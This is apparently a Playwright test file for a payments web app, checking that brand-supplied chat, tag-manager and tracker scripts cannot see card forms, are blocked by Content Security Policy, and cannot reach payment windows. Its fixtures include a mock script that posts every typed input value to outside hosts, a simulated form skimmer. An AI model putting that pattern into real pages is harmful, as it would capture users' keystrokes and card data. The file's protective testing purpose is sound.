import type { BrowserContext, Page } from "@playwright/test"
import { typeCard } from "./card-form.ts"
import { expect, test } from "./fixtures.ts"
import { applicationWorks } from "./page-loads.ts"
import { kept } from "./sign-in-steps.ts"
import { waysOf } from "./transfer-ways.ts"

declare global {
  interface Window {
    /** Set by a test to distinguish documents. */
    mark?: string
    chatIsHere?: boolean
  }
}

/** The brand lists the chat's origin. It does not list the tracker's. */
const chat = "https://chat.example.com"
const uninvited = "https://uninvited.example.net"

/** Requests to other hosts, and the browser's messages about violations of the page's policy. */
const provoked = /asked another host: https:|printed: .*(Content Security Policy|example\.|google)/

test.use({ expectedFaults: [provoked] })

/** Answers requests to other hosts, and records the requests and their bodies. */
async function outside(context: BrowserContext): Promise<string[]> {
  const asked: string[] = []
  await context.route(
    (url) => url.protocol === "https:",
    async (route) => {
      const request = route.request()
      const { origin, pathname } = new URL(request.url())
      asked.push(`${request.url()} ${request.postData() ?? ""}`)
      const headers = { "access-control-allow-origin": "*", "access-control-allow-headers": "*" }
      const body = scripts[`${origin}${pathname}`] ?? ""
      await route.fulfill({ contentType: "text/javascript", headers, body })
    },
  )
  return asked
}

/** The tag manager loads the chat and the unlisted script, which copies everything typed. */
const scripts: Record<string, string> = {
  "https://www.googletagmanager.com/gtm.js": `
    for (const address of ["${chat}/chat.js", "${uninvited}/tag.js"]) {
      const script = document.createElement("script")
      script.src = address
      document.head.append(script)
    }`,
  [`${chat}/chat.js`]: `
    window.chatIsHere = true
    fetch("${chat}/hello", { method: "POST", body: "hello" }).catch(() => {})
    document.addEventListener("input", ({ target }) => {
      fetch("https://www.google-analytics.com/g/collect", { method: "POST", body: target.value }).catch(() => {})
      fetch("${chat}/typed", { method: "POST", body: target.value }).catch(() => {})
    })`,
}

test.beforeEach(async ({ app }) => {
  await app.ask("setBrandScripts", {
    client: "harbor",
    gtmId: "GTM-TEST",
    headTags: [{ tag: "script", src: `${chat}/chat.js` }],
    bodyScripts: [{ text: "window.bodyScriptRan = true" }],
    scriptOrigins: [chat],
    connectOrigins: [chat],
  })
})

async function mark(page: Page, name: string) {
  await page.evaluate((mark) => void Object.assign(window, { mark }), name)
}

async function marked(page: Page) {
  return await page.evaluate(() => window.mark)
}

/** Whether any of the brand's scripts runs in the document. */
async function holdsBrandScripts(page: Page) {
  return await page.evaluate(
    () => "chatIsHere" in window || "bodyScriptRan" in window || "dataLayer" in window,
  )
}

test("SCRIPT-01 a brand's scripts never reach a card form, and typed card data goes only to the gateway", async ({
  page,
  context,
  login,
  advance,
}) => {
  const asked = await outside(context)
  await login("harbor", "maria.santos")
  await advance({ seconds: 4 })
  await expect.poll(() => page.evaluate(() => window.chatIsHere)).toBe(true)
  await expect.poll(() => asked.some((one) => one.startsWith(`${chat}/hello`))).toBe(true)

  await page.getByRole("link", { name: "Payment Center" }).filter({ visible: true }).click()
  await page.getByRole("link", { name: "Payment Methods" }).filter({ visible: true }).click()
  const add = page.getByRole("main").getByRole("button", { name: "Add Payment Method" })
  await expect(add).toBeVisible()
  asked.length = 0
  await add.click()
  const dialog = page.getByRole("dialog")
  await dialog.getByText("Credit Card", { exact: true }).click()
  await typeCard(dialog, { number: "4242 4242 4242 4242", code: "917" })
  await advance({ seconds: 10 })
  expect(asked).toEqual([])
  expect(await holdsBrandScripts(page)).toBe(false)
  expect(await page.locator("script[src^='https:']").count()).toBe(0)
})

test("SCRIPT-02 Pay Now opens with the chosen product in its own document, and Back and Forward move between the documents @prove", async ({
  page,
  context,
  login,
}) => {
  await outside(context)
  await login("harbor", "maria.santos")
  await page.getByRole("button", { name: "Pay Now" }).first().waitFor()
  await mark(page, "dashboard")
  expect(await holdsBrandScripts(page)).toBe(true)

  await page.getByRole("button", { name: "Pay Now" }).first().click()
  const payNow = page.getByRole("heading", { level: 1, name: "Pay Now" })
  await expect(payNow).toBeVisible()
  await expect(page.getByRole("main")).toContainText("4001930435")
  expect(await marked(page)).toBeUndefined()
  expect(await holdsBrandScripts(page)).toBe(false)
  await expect.poll(() => page.evaluate(() => scrollY)).toBe(0)

  await page.goBack()
  await expect(page.getByRole("heading", { level: 1, name: "Welcome" })).toBeVisible()
  await expect(page).toHaveURL(/\/dashboard$/)
  expect(await holdsBrandScripts(page)).toBe(true)
  // Forward has no effect while the document is loading, so a person would press it again.
  await expect(async () => {
    await page.goForward()
    await expect(payNow).toBeVisible({ timeout: 10_000 })
  }).toPass()
  await expect(page.getByRole("main")).toContainText("4001930435")
  expect(await holdsBrandScripts(page)).toBe(false)

  await page.getByRole("button", { name: "Submit Payment" }).click()
  const authorization = page.getByRole("dialog", { name: "Payment Authorization" })
  await authorization.getByRole("button", { name: "I Agree" }).click()
  const paid = page.getByRole("dialog", { name: "Payment Successful" })
  await paid.getByRole("button", { name: "Close" }).last().click()
  await expect(page).toHaveURL(/\/dashboard$/)
  await expect(page.getByRole("heading", { level: 1, name: "Welcome" })).toBeVisible()
  expect(await holdsBrandScripts(page)).toBe(true)
})

test("SCRIPT-03 screens of one kind share a document @prove", async ({ page, context, login }) => {
  await outside(context)
  await login("harbor", "maria.santos")
  const go = async (name: string) => {
    await page.getByRole("link", { name }).filter({ visible: true }).first().click()
  }
  await mark(page, "plain")
  await go("Products")
  await expect(page).toHaveURL(/\/products-main$/)
  expect(await marked(page)).toBe("plain")
  await go("Payment Center")
  await page.getByRole("heading", { level: 1, name: "Payment Center" }).waitFor()
  // Before that, a link of its skeleton opens another document.
  await applicationWorks(page)
  expect(await marked(page)).toBeUndefined()
  await mark(page, "payment")
  await go("Payment History")
  await page.getByRole("heading", { level: 2, name: "Payment History" }).waitFor()
  expect(await marked(page)).toBe("payment")
})

test("SCRIPT-03 a brand without scripts shows Pay Now in another document too @phone @prove", async ({
  page,
  login,
}) => {
  await login("wayfarer", "lena.fischer")
  await page.getByRole("button", { name: "Pay Now" }).first().waitFor()
  await mark(page, "dashboard")
  await page.getByRole("button", { name: "Pay Now" }).first().click()
  await expect(page.getByRole("heading", { level: 1, name: "Pay Now" })).toBeVisible()
  expect(await marked(page)).toBeUndefined()
  await mark(page, "payment")
  await page.goBack()
  await expect(page).toHaveURL(/\/dashboard$/)
  await expect(page.getByRole("heading", { level: 1, name: "Welcome" })).toBeVisible()
  expect(await marked(page)).not.toBe("payment")
})

test("SCRIPT-05 a tool works only if the brand lists its origin @prove", async ({
  page,
  context,
  site,
  advance,
}) => {
  const asked = await outside(context)
  await page.goto(site("harbor"))
  await advance({ seconds: 4 })
  await expect.poll(() => asked.some((one) => one.startsWith(`${chat}/hello`))).toBe(true)
  await expect.poll(() => asked.some((one) => one.includes("gtm.js"))).toBe(true)
  await expect.poll(() => page.locator(`script[src^="${uninvited}"]`).count()).toBe(1)
  expect(asked.filter((one) => one.startsWith(uninvited))).toEqual([])
  const refused = await page.evaluate(async (address) => {
    return await fetch(address).then(
      () => "sent",
      () => "refused",
    )
  }, `${uninvited}/collect`)
  expect(refused).toBe("refused")
})

test("SCRIPT-06 a brand's script cannot reach into a payment screen that it opens in a window", async ({
  page,
  context,
  login,
}) => {
  await outside(context)
  await login("harbor", "maria.santos")
  const opened = context.waitForEvent("page")
  await page.evaluate(() => {
    Object.assign(window, { stolen: window.open("/payment-center/payment-methods") })
  })
  const popup = await opened
  await popup.getByRole("heading", { level: 2, name: "Payment Methods" }).waitFor()
  const seen = await page.evaluate(() => {
    const { stolen } = window as unknown as { stolen: Window }
    try {
      return stolen.closed ? "closed" : stolen.document.body.textContent
    } catch (error) {
      return (error as Error).name
    }
  })
  expect(seen).toBe("closed")
  expect(await popup.evaluate(() => window.opener)).toBeNull()
})

test("SCRIPT-09 messages and the logout survive the change of document @prove", async ({
  page,
  context,
  app,
  port,
  login,
  site,
}) => {
  await outside(context)
  await page.clock.install()
  await login("harbor", "james.okafor")
  await page.goto(`${site("harbor")}/payment-center/payment-history`)
  await page.getByRole("heading", { level: 2, name: "Payment History" }).waitFor()
  const ways = waysOf(app, port)
  const cookies = await ways.cookiesOf(context)
  const { access_token } = (await kept(page, "user")) as { access_token: string }
  // Moves only the page's clock, because the session has not ended on the server's.
  await page.clock.runFor("15:01")
  const status = () => ways.statusWith("harbor", cookies, access_token)
  await expect.poll(status, { message: "the log-out arrives" }).toBe(401)
  await expect(page).toHaveURL(`${site("harbor")}/`)
  await expect(page.getByText("You were logged out because you were inactive")).toBeVisible()
  await page.reload()
  await expect(page.getByRole("textbox", { name: "Username" })).toBeVisible()
  await expect(page.getByText("You were logged out because you were inactive")).toBeHidden()
})
